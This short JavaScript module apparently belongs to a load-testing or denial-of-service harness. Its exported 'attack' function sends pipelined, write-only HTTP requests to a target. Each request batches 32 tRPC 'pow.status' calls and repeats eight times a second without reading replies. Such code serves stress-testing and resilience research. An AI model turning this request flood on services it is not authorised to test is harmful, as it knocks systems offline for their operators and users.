// Pipelined batches of calls for the whole list, whose answers are never read.
import { again, pipelined, writeOnly } from "../sockets.mjs";

const CALLS = 32;

export const node = { finds: 23_500 };

export const attack = (target) =>
  again({ count: 8, milliseconds: 1000 }, () =>
    writeOnly(target, pipelined(`/trpc/${Array(CALLS).fill("pow.status")}?batch=1`)),
  );
